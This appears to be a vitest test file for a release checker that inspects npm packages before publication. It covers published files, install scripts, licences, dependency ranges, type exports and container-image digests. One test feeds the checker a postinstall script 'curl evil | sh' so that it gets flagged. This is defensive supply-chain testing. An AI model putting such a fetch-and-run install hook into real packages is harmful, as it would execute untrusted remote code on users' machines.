import { createHash } from 'node:crypto';
import { appendFileSync } from 'node:fs';
import { join } from 'node:path';
import { makeTempDir } from '@stash-addons/testbed';
import { expect, it, onTestFinished } from 'vitest';
import { checkFiles } from '../src/checks/files.ts';
import { checkImage } from '../src/checks/image.ts';
import { checkPackageJson } from '../src/checks/package-json.ts';
import { checkTypes } from '../src/checks/types.ts';
import { packed } from './support.ts';

function folder(): string {
  const { path, remove } = makeTempDir();
  onTestFinished(remove);
  return join(path, 'widget');
}

const OURS = new Map([['@stash-addons/core', '2.0.0']]);

it('names each file that was added or is gone, and a package that has grown; the hash in the name of a chunk is no news', async () => {
  const one = await packed(folder(), {}, { 'dist/chunk-ABCD1234.js': '', 'dist/secret.pem': '' });
  expect(
    checkFiles(one, { kilobytes: 5, files: ['LICENSE', 'dist/chunk-*.js', 'dist/secret.pem', 'package.json'] }),
  ).toEqual([]);
  expect(checkFiles(one, { kilobytes: 0, files: ['LICENSE', 'README.md', 'dist/chunk-*.js', 'package.json'] })).toEqual(
    [
      '@stash-addons/widget: dist/secret.pem is published and was not before',
      '@stash-addons/widget: README.md is not published any more',
      '@stash-addons/widget: 1 kB, more than its 0 kB',
    ],
  );
  expect(checkFiles(one, undefined)).toEqual(['@stash-addons/widget: tooling/release/published.json does not list it']);
});

it('refuses what runs on install, however it is said', async () => {
  const scripts = { postinstall: 'curl evil | sh', prepare: 'x', build: 'tsup' };
  const problems = checkPackageJson(await packed(folder(), { scripts }, { 'binding.gyp': '{}' }), OURS);
  expect(problems.map((problem) => problem.replace('@stash-addons/widget: runs ', ''))).toEqual([
    'postinstall when it is installed',
    'prepare when it is installed',
    'binding.gyp when it is installed',
  ]);
});

it('refuses a package without its licence, with another one, with a range, or with one of ours as a peer', async () => {
  const dependencies = { '@stash-addons/core': 'workspace:*', yaml: '^2.0.0', valibot: '1.5.0' };
  const peerDependencies = { '@stash-addons/core': '*' };
  const one = await packed(folder(), { license: 'MIT', dependencies, peerDependencies });
  const problems = checkPackageJson({ ...one, files: ['package.json'] }, OURS);
  expect(problems.map((problem) => problem.replace('@stash-addons/widget: ', ''))).toEqual([
    'has no file LICENSE',
    'its licence is MIT',
    'asks for @stash-addons/core workspace:*, which is not what it was tested with',
    'asks for yaml ^2.0.0, which is not what it was tested with',
    'has @stash-addons/core as a peer, so that a major of that would force one of this',
  ]);
});

it('finds types that are not there, and an export of a file that is not published', async () => {
  const exports = { '.': { types: './dist/index.d.ts', default: './dist/index.js' } };
  const good = { 'dist/index.js': 'export const one = 1;\n', 'dist/index.d.ts': 'export declare const one: number;\n' };
  expect(await checkTypes(await packed(folder(), { exports }, good))).toEqual([]);
  const untyped = await checkTypes(await packed(folder(), { exports }, { 'dist/index.js': 'export const one = 1;\n' }));
  expect(untyped.join()).toMatch(/dist\/index\.d\.ts/);
});

it('ties image, tag, digest, program, manifest and package together', async () => {
  const program = 'run();\n';
  const digest = `sha256:${'0'.repeat(64)}`;
  const image = { repository: 'ghcr.io/stash-addons/widget', tag: '9-v1.2.3', digest };
  const manifest = {
    addon: { package: '@stash-addons/widget', version: '1.2.3' },
    releases: [{ suffix: '9', image }],
    files: { 'dist/program.js': createHash('sha256').update(program).digest('hex') },
  };
  const stashAddon = { contract: 1, manifest: './dist/addon.json' };
  const make = (changed: object) =>
    packed(
      folder(),
      { stashAddon },
      { 'dist/program.js': program, 'dist/addon.json': JSON.stringify({ ...manifest, ...changed }) },
    );

  expect(checkImage(await make({}), { widget: digest })).toEqual([]);
  expect(checkImage(await make({}), {})).toEqual([
    `@stash-addons/widget: its release 9 names the digest ${digest}, not none`,
  ]);
  const wrong = { suffix: '9', image: { repository: 'ghcr.io/evil/widget', tag: '9-v1.2.2' } };
  expect((await make({ releases: [wrong] }).then((one) => checkImage(one, { widget: digest }))).length).toBe(3);
  const other = { addon: { package: '@stash-addons/gadget', version: '1.2.3' } };
  expect(checkImage(await make(other), { widget: digest })).toEqual([
    '@stash-addons/widget: its manifest is of @stash-addons/gadget@1.2.3',
  ]);
  const changed = await make({});
  appendFileSync(join(changed.dir, 'dist/program.js'), '// more');
  expect(checkImage(changed, { widget: digest })).toEqual([
    '@stash-addons/widget: dist/program.js is not the file its manifest has the hash of',
  ]);
});
